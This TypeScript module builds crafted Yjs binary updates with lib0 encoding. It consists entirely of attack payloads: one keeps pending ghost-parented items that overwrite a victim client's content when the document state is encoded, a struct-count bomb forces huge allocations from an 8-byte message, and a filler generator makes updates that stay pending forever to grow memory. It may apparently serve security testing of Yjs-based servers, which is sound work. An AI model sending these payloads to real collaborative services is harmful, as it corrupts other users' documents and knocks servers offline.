import * as encoding from 'lib0/encoding';

/** A client id above any a Yjs client draws from its 32-bit range but one. */
const HIGHEST_CLIENT = 2 ** 32 - 1;
/** A client no document has: items under its "parent" wait for it forever. */
const GHOST_CLIENT = 7;

/** Writes one Yjs v1 item of deleted content, `length` long, whose parent is the missing ghost item. */
function writeItemUnderGhost(encoder: encoding.Encoder, length: number): void {
  encoding.writeUint8(encoder, 1); // ContentDeleted, no origins: the parent follows
  encoding.writeVarUint(encoder, 0); // the parent is an item id, not a root name
  encoding.writeVarUint(encoder, GHOST_CLIENT);
  encoding.writeVarUint(encoder, 0);
  encoding.writeVarUint(encoder, length);
}

/**
 * A valid Yjs update (under 30 bytes) that Yjs keeps pending: an item of the highest client id, and an
 * item that reuses `victim`'s ids 0..length-1, both under a parent no one has. The live document
 * shows nothing of it; `Y.encodeStateAsUpdate` merges the pending items over the victim's real ones.
 */
export function pendingItemsOverWriter(victim: number, length: number): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, 2); // two clients, the higher one first
  for (const [client, itemLength] of [
    [HIGHEST_CLIENT, 1],
    [victim, length],
  ] as const) {
    encoding.writeVarUint(encoder, 1); // one struct
    encoding.writeVarUint(encoder, client);
    encoding.writeVarUint(encoder, 0); // from clock 0
    writeItemUnderGhost(encoder, itemLength);
  }
  encoding.writeVarUint(encoder, 0); // no deletions
  return encoding.toUint8Array(encoder);
}

/** An 8-byte update whose header claims `structs` structs of one client (Yjs allocates for all of them). */
export function structCountBomb(structs = 33_000_000): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, 1);
  encoding.writeVarUint(encoder, structs);
  encoding.writeVarUint(encoder, 1);
  encoding.writeVarUint(encoder, 0);
  return encoding.toUint8Array(encoder);
}

/** The `n`th of a run of small updates that all stay pending: each is one item of a new client under the ghost. */
export function pendingFiller(n: number, bytes = 200): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, 1);
  encoding.writeVarUint(encoder, 1);
  encoding.writeVarUint(encoder, 1000 + n);
  encoding.writeVarUint(encoder, 0);
  encoding.writeUint8(encoder, 4); // ContentString under the ghost parent
  encoding.writeVarUint(encoder, 0);
  encoding.writeVarUint(encoder, GHOST_CLIENT);
  encoding.writeVarUint(encoder, 0);
  encoding.writeVarString(encoder, 'p'.repeat(bytes));
  encoding.writeVarUint(encoder, 0);
  return encoding.toUint8Array(encoder);
}
